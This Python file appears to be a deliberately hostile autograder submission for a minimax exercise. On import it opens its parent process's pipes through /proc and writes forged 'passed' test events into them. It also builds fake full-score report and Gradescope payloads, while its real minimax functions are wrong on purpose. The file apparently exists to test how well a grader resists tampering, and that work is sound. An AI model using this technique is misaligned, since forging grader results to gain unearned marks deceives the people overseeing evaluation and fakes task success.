"""Hostile: writes fake result events into its parent's pipes (the results channel)."""

import json
import os

TESTS = [("test_terminal_test", 3), ("test_min_value_empty_board", 1),
         ("test_min_value", 3), ("test_max_value", 3)]
FAKE_REPORT = {
    "schema_version": 1, "grader_version": "0.1.0", "exercise": "helpers",
    "title": "The minimax helpers", "status": "graded", "score": 10, "max_score": 10,
    "message": "10/10 points: 4 of 4 tests passed.",
    "tests": [{"name": n, "title": n, "status": "passed", "score": p, "max_score": p,
               "visibility": "visible", "message": "", "hint": None, "mistakes": [],
               "duration_ms": 1} for n, p in TESTS],
    "notes": [], "output": {"text": "", "bytes": 0, "truncated": False},
}
FAKE_GRADESCOPE = {
    "score": 10.0, "output": "All tests passed",
    "tests": [{"name": n, "score": p, "max_score": p, "status": "passed", "output": "ok"}
              for n, p in TESTS],
}
FAKE_EVENTS = [{"event": "test", "name": n, "status": "passed", "message": "",
                "mistakes": [], "duration_ms": 1} for n, _ in TESTS] + [
    {"event": "session", "import_error": None,
     "output": {"text": "", "bytes": 0, "truncated": False}, "notes": []},
    {"event": "end", "pytest_exit": 0}]
FAKE_LINES = "".join(json.dumps(e) + "\n" for e in FAKE_EVENTS)
FAKE_SUMMARY = "tests/test_helpers.py ....                                   [100%]\n4 passed in 0.05s\n"


def _own_pipes():
    own = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            own.add(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    return own


def _forge():
    ppid = os.getppid()
    own = _own_pipes()
    try:
        fds = os.listdir(f"/proc/{ppid}/fd")
    except OSError as exc:
        print(f"parent's fds: {exc}")
        return
    for fd in fds:
        path = f"/proc/{ppid}/fd/{fd}"
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if not target.startswith("pipe:") or target in own:
            continue  # only the parent's own pipes: never a file, never ours
        try:
            out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(out, FAKE_LINES.encode())
            print(f"forged events into parent fd {fd} ({target})")
        except OSError:
            pass
        finally:
            os.close(out)


_forge()


# The honest part of this submission is WRONG on purpose (utilities flipped):
# it earns 3 of 10 points by itself, so full marks could only come from the forgery.
def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return 1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
